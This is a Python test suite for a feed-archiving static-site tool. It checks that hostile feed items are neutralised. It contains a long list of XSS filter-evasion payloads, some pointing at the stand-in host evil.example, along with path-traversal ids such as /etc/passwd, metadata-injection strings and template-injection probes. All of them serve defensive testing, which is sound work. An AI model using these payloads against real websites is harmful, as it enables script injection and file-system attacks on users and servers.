"""Hostile feed text: no active content, no metadata injection, no placeholder, no path escape.

Every check runs the real chain: a local HTTP server, archive.run, a real Pelican build with the
project's theme, and an HTML parser over what was written.
"""

from __future__ import annotations

import html
import http.server
import json
import logging
import re
import threading
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Iterator
from zoneinfo import ZoneInfo

import markdown
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import corpus_report
import html_audit
from conftest import ROOT, LogCollector, QuietFiles, archive_config, build_site, site_settings

#: HTML payloads put in item content (written for this suite; classic filter-evasion forms).
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src=" &#14;  javascript:alert(1)">',
    '<a href="javascript:alert(1)">js</a>',
    '<a href="JaVaScRiPt:alert(1)">js</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">js</a>',
    '<a href="java\nscript:alert(1)">js</a>',
    '<a href="  javascript:alert(1)">js</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="X.class"></applet>',
    '<form action="https://evil.example/"><input name="p"></form>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width: expression(alert(1))">expr</div>',
    "<svg onload=alert(1)><circle r=1></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<body onload=alert(1)>body</body>",
    "<details open ontoggle=alert(1)>details</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    '<button formaction="javascript:alert(1)">b</button>',
    '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "<template><script>alert(1)</script></template>",
    '<isindex action="javascript:alert(1)" type=image>',
    '<img srcset="javascript:alert(1) 1x">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<portal src="https://evil.example/"></portal>',
    "[md link](javascript:alert(1)) and ![md image](javascript:alert(2))",
    "<x onmouseover=alert(1)>hover</x>",
    '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "&lt;script&gt;alert(1)&lt;/script&gt; escaped",
    '<a href="https://ok.example/" target="_blank" rel="opener">opener</a>',
    "<p>``<script>alert(1)</script>`` in code</p><pre><code><script>alert(2)</script></code></pre>",
    "<ul><li><pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre></li></ul>",
    "<blockquote><pre>&lt;img src=x onerror=alert(1)&gt;</pre></blockquote>",
    "<pre>```\n&lt;script&gt;alert(1)&lt;/script&gt;\n```</pre>",
    "<p><code>x\n&lt;iframe src=//evil.example&gt;&lt;/iframe&gt;</code></p>",
]
#: Payloads in the places of a feed that are not HTML content.
FIELD_PAYLOADS = [
    "<script>alert(1)</script>Titre",
    '"><img src=x onerror=alert(1)>',
    "</title><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
]
#: Pelican link placeholders and template syntax in feed text.
PLACEHOLDERS = [
    "{filename}/pages/about.md",
    "|filename|/pages/about.md",
    "{static}/images/logo.png",
    "{attach}files/x.pdf",
    "{tag}python",
    "{category}misc",
    "{author}alice",
    "{index}",
    "{{ 7*191 }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{# comment #}",
]
PLACEHOLDER_HTML = (
    '<p>See <a href="{filename}/pages/about.md">about</a>, '
    '<a href="|filename|/pages/about.md">old</a>, <img src="{static}/images/logo.png" alt="logo">'
    ' <a href="{index}">home</a> <a href="{tag}python">tag</a> <a href="{author}alice">me</a></p>'
)


def _item(n: int, title: str, content: str, **extra: str) -> str:
    link = extra.get("link", f"https://feed.example/post/{n}")
    author = extra.get("author", "Alice")
    tag = extra.get("tag", "ok")
    enclosure = extra.get("enclosure", "")
    cdata = content.replace("]]>", "]]]]><![CDATA[>")
    return (
        f"<item><title>{html.escape(title)}</title><link>{html.escape(link)}</link>"
        f"<guid>urn:hostile:{n}</guid><pubDate>Mon, 06 Jan 2025 10:{n % 60:02d}:00 +0000</pubDate>"
        f"<author>{html.escape(author)}</author><category>{html.escape(tag)}</category>"
        f"<description>{html.escape(content)}</description>"
        f"<content:encoded><![CDATA[{cdata}]]></content:encoded>"
        + (f'<enclosure url="{html.escape(enclosure)}" type="text/html"/>' if enclosure else "")
        + "</item>"
    )


def hostile_rss() -> tuple[str, int]:
    """An RSS feed with every payload in content, titles, authors, tags, links, enclosures."""
    items = [_item(n, f"Payload {n}", p) for n, p in enumerate(PAYLOADS)]
    base = len(items)
    for n, text in enumerate(FIELD_PAYLOADS, base):
        items.append(
            _item(n, text, "<p>body</p>", author=text, tag=text, link=text, enclosure=text)
        )
    base = len(items)
    for n, text in enumerate(PLACEHOLDERS, base):
        items.append(
            _item(n, f"Lien {text}", f"<p>Texte {html.escape(text)}</p>" + PLACEHOLDER_HTML)
        )
    body = "".join(items)
    feed = (
        '<?xml version="1.0" encoding="utf-8"?>'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        f"<channel><title>Hostile</title><link>https://feed.example/</link>{body}</channel></rss>"
    )
    return feed, len(items)


def hostile_json() -> tuple[str, int]:
    """The content payloads again through our own JSON Feed path."""
    items = [
        {
            "id": f"urn:json:{n}",
            "url": f"https://feed.example/json/{n}",
            "title": f"JSON {n} {FIELD_PAYLOADS[n % len(FIELD_PAYLOADS)]}",
            "content_html": payload,
            "summary": payload,
            "date_published": "2025-01-07T10:00:00Z",
            "authors": [{"name": FIELD_PAYLOADS[n % len(FIELD_PAYLOADS)]}],
            "tags": [FIELD_PAYLOADS[n % len(FIELD_PAYLOADS)]],
            "attachments": [{"url": "javascript:alert(1)", "mime_type": "text/html"}],
        }
        for n, payload in enumerate(PAYLOADS)
    ]
    document = {"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": items}
    return json.dumps(document), len(items)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """The hostile RSS and JSON feeds fetched over HTTP and built into one site, once."""
    from feed_archive.ingest import archive

    base = tmp_path_factory.mktemp("hostile")
    feeds = base / "feeds"
    feeds.mkdir()
    rss_text, rss_items = hostile_rss()
    json_text, json_items = hostile_json()
    (feeds / "hostile.xml").write_text(rss_text, encoding="utf-8")
    (feeds / "hostile.json").write_text(json_text, encoding="utf-8")
    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), lambda *a: QuietFiles(*a, directory=str(feeds))
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/"
    content = base / "content"
    import shutil

    shutil.copytree(ROOT / "content" / "pages", content / "pages")
    config = archive_config(
        content,
        {"url": url + "hostile.xml", "name": "Hostile RSS"},
        {"url": url + "hostile.json", "name": "Hostile JSON"},
    )
    reports = archive.run(config)
    handler = LogCollector()
    logging.getLogger().addHandler(handler)
    try:
        output = build_site(content, base / "output")
    finally:
        logging.getLogger().removeHandler(handler)
        server.shutdown()
        server.server_close()
    corpus_report.count(
        "attack payloads tried (HTML in RSS and JSON Feed content, field payloads, placeholders)",
        len(PAYLOADS) * 2 + len(FIELD_PAYLOADS) * 5 + len(PLACEHOLDERS) * 3,
    )
    yield {
        "content": content,
        "output": output,
        "reports": reports,
        "items": rss_items + json_items,
        "records": handler.records,
    }


def test_every_hostile_item_is_archived(hostile_site: dict[str, Any]) -> None:
    """Payloads are neutralised, not hidden by dropping the items that carry them."""
    reports = hostile_site["reports"]
    assert [r.error for r in reports] == [None, None]
    assert sum(r.counts["new"] for r in reports) == hostile_site["items"]
    assert len(list((hostile_site["content"] / "archive").rglob("*.md"))) == hostile_site["items"]


def test_no_active_content_in_archived_markdown(hostile_site: dict[str, Any]) -> None:
    """Each Markdown file, rendered with the site's Markdown settings, has no active content."""
    from pelican.settings import read_settings

    converter = markdown.Markdown(**read_settings(str(ROOT / "pelicanconf.py"))["MARKDOWN"])
    found = []
    for post in sorted((hostile_site["content"] / "archive").rglob("*.md")):
        header, _, body = post.read_text(encoding="utf-8").partition("\n\n")
        converter.reset()
        found += [f"{post.name}: {x}" for x in html_audit.audit(converter.convert(body))]
        found += [f"{post.name} header: {x}" for x in html_audit.audit(header)]
        sources = [line for line in header.splitlines() if line.startswith("Source: ")]
        for line in sources:
            assert re.fullmatch(r"Source: https?://[^\s<>\"`]+", line), header
    assert not found, "\n".join(found)


def test_no_active_content_in_built_site(hostile_site: dict[str, Any], sample_site: Path) -> None:
    """The built HTML holds nothing active beyond what the theme emits for a benign feed."""
    allowed = {
        item
        for items in html_audit.audit_files(sample_site.rglob("*.html")).values()
        for item in items
    }
    pages = sorted(hostile_site["output"].rglob("*.html"))
    assert len(pages) > hostile_site["items"]
    bad = html_audit.unexpected(html_audit.audit_files(pages), allowed)
    assert not bad, "\n".join(bad[:40])
    errors = [r.getMessage() for r in hostile_site["records"] if r.levelno >= logging.ERROR]
    assert not errors


def test_audit_detects_what_it_must(tmp_path: Path) -> None:
    """The auditor itself flags each kind of active content (so a pass means something)."""
    kinds = {
        f[0]
        for f in html_audit.audit(
            "<script>x</script><style>a{}</style><iframe></iframe><object></object><form></form>"
            '<a href=" java\tscript:x">a</a><a href="vbscript:x">b</a><img src=x onerror=y>'
            '<a href="data:text/html,x">c</a><img src="data:image/svg+xml,x">'
            '<meta http-equiv="refresh" content="0">'
            '<link rel="stylesheet" href="https://evil.example/x.css">'
        )
    }
    assert kinds >= {
        "script",
        "style",
        "iframe",
        "object",
        "form",
        "script-url",
        "handler",
        "data-url",
        "meta-refresh",
        "link",
    }
    assert (
        html_audit.audit('<img src="data:image/png;base64,AAAA"><a href="https://x/">x</a>') == []
    )


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in ("href", "src") and value:
                self.links.append(value)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _page_of(output: Path, guid: str, content: Path) -> Path:
    for post in (content / "archive").rglob("*.md"):
        text = post.read_text(encoding="utf-8")
        if f"\nGuid: {guid}\n" in text:
            meta = dict(line.split(": ", 1) for line in text.split("\n\n", 1)[0].splitlines())
            date = meta["Date"]
            return output / date[:4] / date[5:7] / date[8:10] / meta["Slug"] / "index.html"
    raise AssertionError(f"no post for {guid}")


@pytest.mark.browser
def test_payloads_do_not_run_in_a_browser(
    hostile_site: dict[str, Any], page: Any, serve_dir: Any
) -> None:
    """Chromium opens every hostile article: no dialog, no request to the attacker's host."""
    output = hostile_site["output"]
    base = serve_dir(output)
    fired: list[str] = []
    evil: list[str] = []
    page.on("dialog", lambda dialog: (fired.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: evil.append(request.url) if "evil" in request.url else None)
    pages = [
        p
        for p in sorted(output.glob("[0-9][0-9][0-9][0-9]/*/*/*/index.html"))
        if "hostile" in p.read_text(encoding="utf-8").lower()
    ]
    assert len(pages) >= hostile_site["items"]
    for path in pages:
        page.goto(base + str(path.relative_to(output)), wait_until="load")
        page.mouse.move(200, 300)
        page.keyboard.press("Tab")
    assert fired == [] and evil == [], (fired[:5], evil[:5])
    corpus_report.count("hostile article pages opened in Chromium", len(pages))


def test_placeholders_and_jinja_are_shown_literally(hostile_site: dict[str, Any]) -> None:
    """{filename}, |filename|, {static}… and Jinja syntax stay text and become no site link."""
    output, content = hostile_site["output"], hostile_site["content"]
    first = len(PAYLOADS) + len(FIELD_PAYLOADS)
    about = re.compile(r"(^|/)pages/about/?$|logo\.png$|(^|/)tag/python|(^|/)author/alice")
    for n, text in enumerate(PLACEHOLDERS, first):
        page = _page_of(output, f"urn:hostile:{n}", content)
        parser = _Text()
        parser.feed(page.read_text(encoding="utf-8"))
        shown = " ".join(" ".join(parser.text).split())
        assert f"Texte {text}" in shown, text
        assert f"Lien {text}" in shown, text
        feed_links = [u for u in parser.links if "feed.example" in u]
        assert len(feed_links) >= 5, parser.links
        bad = [u for u in parser.links if about.search(u) and "feed.example" not in u]
        theme_links = _control_links(output, content)
        assert [u for u in bad if u not in theme_links] == [], text
    for page in output.rglob("*.html"):
        assert "1337" not in page.read_text(encoding="utf-8"), page
    replaced = [
        r.getMessage()
        for r in hostile_site["records"]
        if "Unable to find" in r.getMessage() or "Replacement Indicator" in r.getMessage()
    ]
    assert replaced == []


def _control_links(output: Path, content: Path) -> set[str]:
    """The links of an ordinary article page of the same site (what the theme adds)."""
    parser = _Text()
    parser.feed(_page_of(output, "urn:hostile:0", content).read_text(encoding="utf-8"))
    return set(parser.links)


# --- metadata cannot be injected ----------------------------------------------------------

TRICKY = [
    "\n",
    "\r\n",
    "\r",
    "\u2028",
    "\x85",
    "\x0b",
    "\x0c",
    "\t",
    "\n\n",
    "    ",
    "Title: injected",
    "Date: 1999-01-01",
    "Slug: evil",
    "Tags: a, b",
    "Status: draft",
    "Template: evil",
    "Save_as: ../../evil.html",
    "Url: /evil/",
    "Category: evil",
    "Authors: Mallory; Eve",
    "---",
    "...",
    "---\ntitle: yaml\n---",
    "title: lower",
    "%",
    "{",
    "}",
    "<",
    ">",
    "&",
    "&amp;",
    ",",
    ";",
    "#",
    "*",
    "_",
    "\\",
    "`",
    "|",
    "[",
    "]",
    ":",
    "\x02",
    "\x03",
    "\x00",
    "\ufeff",
    "é",
]
hostile_text = st.lists(
    st.one_of(st.sampled_from(TRICKY), st.text(max_size=8)), min_size=1, max_size=8
).map("".join)
EXPECTED_KEYS = {"title", "date", "category", "slug", "summary", "feed", "source", "fetched"}


def _plain(value: str) -> str:
    """Documented normalization of one-line text: controls dropped, white space collapsed."""
    return " ".join(re.sub("[\x00-\x08\x0e-\x1b\x7f\ud800-\udfff]", "", value).split())


def _name(value: str) -> str:
    """What render.py documents for tag/author names: , ; < > removed, white space collapsed."""
    return _plain(re.sub(r"[,;<>]", " ", value))


@pytest.fixture(scope="module")
def reader(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """Pelican's MarkdownReader with the project's settings."""
    from pelican.readers import MarkdownReader

    base = tmp_path_factory.mktemp("reader")
    (base / "content").mkdir()
    return MarkdownReader(site_settings(base / "content", base / "output"))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(title=hostile_text, author=hostile_text, tag=hostile_text, guid=hostile_text)
@example(
    title="Real title\nDate: 1999-01-01\nSlug: evil",
    author="Alice\nStatus: draft",
    tag="news\n\nInjected body",
    guid="urn:x\nTitle: other",
)
@example(title="---\nTitle: y\n---", author="a, b; c", tag="<b>x</b>", guid="    indented")
def test_metadata_cannot_be_injected(
    reader: Any,
    tmp_path_factory: Any,
    title: str,
    author: str,
    tag: str,
    guid: str,
) -> None:
    """Pelican reads back exactly the metadata written, whatever the title/author/tag/id hold."""

    from feed_archive.ingest.convert import build_post
    from feed_archive.ingest.entry import Entry
    from feed_archive.post import render
    from feed_archive.settings import Source

    entry = Entry(
        identity=guid,
        title=title,
        link="https://feed.example/a",
        published=datetime(2025, 1, 6, 10, 0, tzinfo=UTC),
        updated=None,
        authors=(author,),
        tags=(tag,),
        content_html="<p>Body text</p>",
        summary_html="",
    )
    source = Source(name="Prop", url="https://feed.example/feed", slug="prop")
    post = build_post(entry, source, ZoneInfo("Europe/Paris"), (), datetime.now(UTC))
    text = render(post)
    path = tmp_path_factory.getbasetemp() / "prop.md"
    path.write_text(text, encoding="utf-8")
    body, meta = reader.read(str(path))
    keys = set(meta)
    expected = set(EXPECTED_KEYS)
    if _name(tag):
        expected.add("tags")
    if _name(author):
        expected.add("authors")
    if _plain(guid):
        expected.add("guid")
    assert keys == expected, text
    assert html.unescape(meta["title"]) == post.title
    assert meta["title"] == html.escape(post.title, quote=False)
    assert "\n" not in post.title and post.title == post.title.strip()
    assert meta["slug"] == post.slug and re.fullmatch(r"[a-z0-9-]+-[0-9a-f]{12}", post.slug)
    assert meta["date"].isoformat() == "2025-01-06T11:00:00+01:00"
    if "guid" in expected:
        assert html.unescape(meta["guid"]) == _plain(guid)
    for key, raw in (("tags", tag), ("authors", author)):
        if key in expected:
            (value,) = [str(v) for v in meta[key]]
            # names are cut at a word boundary when very long (render.NAME_BUDGET)
            assert value and _name(raw).startswith(value) and len(value) <= 100
            assert value == _name(raw) or len(_name(raw)) > 16
    assert str(meta["category"]) == "Prop"
    assert meta["feed"] == "Prop"
    assert meta["source"] == "https://feed.example/a"
    assert "Body text" in body
    corpus_report.count("metadata injection examples (hypothesis)")


# --- no write outside the archive ---------------------------------------------------------

HOSTILE_IDS = [
    "../../../../../../tmp/escape",
    "/etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\Windows\\evil",
    "CON",
    "NUL",
    "aux.txt",
    "com1",
    "LPT9.md",
    "a" * 5000,
    "é" * 3000,
    ".",
    "..",
    "~",
    "$HOME",
    "a/../../b",
    "%2e%2e%2f%2e%2e%2fescape",
    "file:///etc/passwd",
    "name\u202egnp.md",
]


def _json_item(n: int, value: str) -> dict[str, Any]:
    return {
        "id": value,
        "url": f"https://feed.example/{value[:100]}",
        "title": value,
        "content_html": f"<p>{html.escape(value[:50])}</p>",
        "date_published": "2025-01-07T10:00:00Z",
        "tags": [value],
        "authors": [{"name": value}],
    }


@pytest.mark.parametrize(
    "feed_name", ["Hostile", "../../outside", "/abs/outside", "CON", "NUL", "x" * 400, "a\x00b"]
)
def test_no_write_lands_outside_the_archive(tmp_path: Path, feed_name: str) -> None:
    """No id, title, tag, URL or feed name makes a file land outside the archive folder."""
    from feed_archive.ingest import archive

    values = HOSTILE_IDS + ["nul\x00byte", "\x00x", "lone \ud800 surrogate", "dot.", "space "]
    items = [_json_item(n, v) for n, v in enumerate(values)]
    document = {"version": "https://jsonfeed.org/version/1.1", "title": "P", "items": items}
    feed = tmp_path / "feeds" / "paths.json"
    feed.parent.mkdir()
    feed.write_text(json.dumps(document), encoding="utf-8")
    content = tmp_path / "site" / "content"
    (report,) = archive.run(archive_config(content, {"url": str(feed), "name": feed_name}))
    assert report.error is None, report.line()
    assert report.counts["new"] == len(values)
    root = (content / "archive").resolve()
    written = [p for p in tmp_path.rglob("*") if p.is_file() and p != feed]
    assert len([p for p in written if p.suffix == ".md"]) == len(values)
    reserved = {"con", "prn", "aux", "nul"} | {f"{k}{i}" for k in ("com", "lpt") for i in range(10)}
    for path in written:
        assert root in path.resolve().parents, path
        relative = path.resolve().relative_to(root)
        for part in relative.parts:
            assert len(part.encode()) <= 255 and "\x00" not in part, part
            assert part.split(".")[0].lower() not in reserved, part
            assert not part.endswith((".", " ")), part
            assert re.fullmatch(r"[A-Za-z0-9._-]+", part), part
    corpus_report.count("path-escape attempts (ids, titles, tags, feed names)", len(values) + 1)


def test_store_refuses_a_path_outside_the_root(tmp_path: Path) -> None:
    """The last guard: Store.path_for refuses slugs that would leave the archive."""
    from feed_archive.ingest.store import Store, StoreError

    store = Store(tmp_path / "archive")
    for slug in ("../../../../escape", "/etc/passwd", "../../../../../x"):
        with pytest.raises(StoreError, match="outside the archive"):
            store.path_for("feed", "2025-01-01", slug)
    for feed_slug in ("..", "../.."):
        with pytest.raises(StoreError, match="outside the archive"):
            store.path_for(feed_slug, "2025-01-01", "../../../x")
    assert not (tmp_path / "escape.md").exists()


# --- secrets ------------------------------------------------------------------------------

SECRET = "k3y-Zq81-TOPSECRET-55"


def test_private_feed_secret_is_never_written(
    httpserver: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Any
) -> None:
    """The key of a private feed appears in no file, no log line and no error message."""
    from feed_archive.ingest import archive

    monkeypatch.setenv("PRIVATE_FEED_KEY", SECRET)
    item = (
        "<item><title>Privé {n}</title><link>{link}</link><guid>{guid}</guid>"
        "<description>&lt;a href='{rel}'&gt;lien relatif&lt;/a&gt; texte</description>"
        '<enclosure url="{enc}" type="audio/mpeg"/></item>'
    )
    items = "".join(
        item.format(
            n=n,
            link=f"https://private.example/p/{n}?key={SECRET}",
            guid=f"https://private.example/p/{n}?rsskey={SECRET}",
            rel=f"other/{n}",
            enc=f"https://private.example/audio/{n}.mp3?token={SECRET}",
        )
        for n in range(3)
    )
    feed = (
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>P</title>{items}</channel></rss>'
    )
    httpserver.expect_request(f"/{SECRET}/feed.xml").respond_with_data(
        feed, content_type="application/rss+xml", headers={"ETag": '"v1"'}
    )
    httpserver.expect_request("/redirect").respond_with_data(
        "", status=302, headers={"Location": httpserver.url_for(f"/missing/{SECRET}")}
    )
    silent = _SilentServer()
    closed = _closed_port()
    sources = [
        ("ok", httpserver.url_for("/{secret}/feed.xml")),
        ("404", httpserver.url_for("/gone") + "?key={secret}"),
        ("redirect", httpserver.url_for("/redirect") + "?key={secret}"),
        ("refused", f"http://127.0.0.1:{closed}/feed?key={{secret}}"),
        ("timeout", f"http://127.0.0.1:{silent.port}/feed?key={{secret}}"),
        ("bad-host", "http://{secret}.invalid./feed"),
    ]
    content = tmp_path / "content"
    config = archive_config(
        content,
        *[{"url": u, "name": n, "secret_env": "PRIVATE_FEED_KEY"} for n, u in sources],
        FEED_ARCHIVE_TIMEOUT=1,
        FEED_ARCHIVE_TOTAL_TIMEOUT=2,
    )
    handler = LogCollector()
    root = logging.getLogger()
    old_level = root.level
    root.setLevel(logging.DEBUG)
    root.addHandler(handler)
    try:
        reports = archive.run(config)
        build_site(content, tmp_path / "output")
    finally:
        root.removeHandler(handler)
        root.setLevel(old_level)
        silent.close()
    lines = [r.line() for r in reports]
    assert reports[0].error is None and reports[0].counts["new"] == 3, lines
    assert all(r.error for r in reports[1:]), lines
    ours = [r for r in handler.records if r.name != "werkzeug"]  # werkzeug: the test server
    logged = "\n".join(logging.Formatter("%(name)s %(message)s").format(r) for r in ours)
    captured = capsys.readouterr()
    places = {
        "report lines": "\n".join(lines),
        "logs": logged,
        "stdout": captured.out,
        "stderr": captured.err,
    }
    for folder in (content, tmp_path / "output"):
        for path in folder.rglob("*"):
            if path.is_file():
                places[str(path)] = path.read_bytes().decode("utf-8", "replace")
    leaks = {
        where: text[max(0, text.index(SECRET) - 120) : text.index(SECRET) + 30]
        for where, text in places.items()
        if SECRET in text
    }
    assert leaks == {}, "\n".join(f"{k}: ...{v!r}" for k, v in leaks.items())
    assert (content / "archive" / ".feed-archive-state.json").is_file()
    corpus_report.count("secret-leak scenarios (ok, 404, redirect, refused, timeout, bad host)", 6)


class _SilentServer:
    """Accepts connections and never answers."""

    def __init__(self) -> None:
        import socket

        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.conns: list[Any] = []
        self.stop = threading.Event()
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        self.sock.settimeout(0.2)
        while not self.stop.is_set():
            try:
                self.conns.append(self.sock.accept()[0])
            except OSError:
                continue

    def close(self) -> None:
        """Stop and close everything."""
        self.stop.set()
        for conn in self.conns:
            conn.close()
        self.sock.close()


def _closed_port() -> int:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]
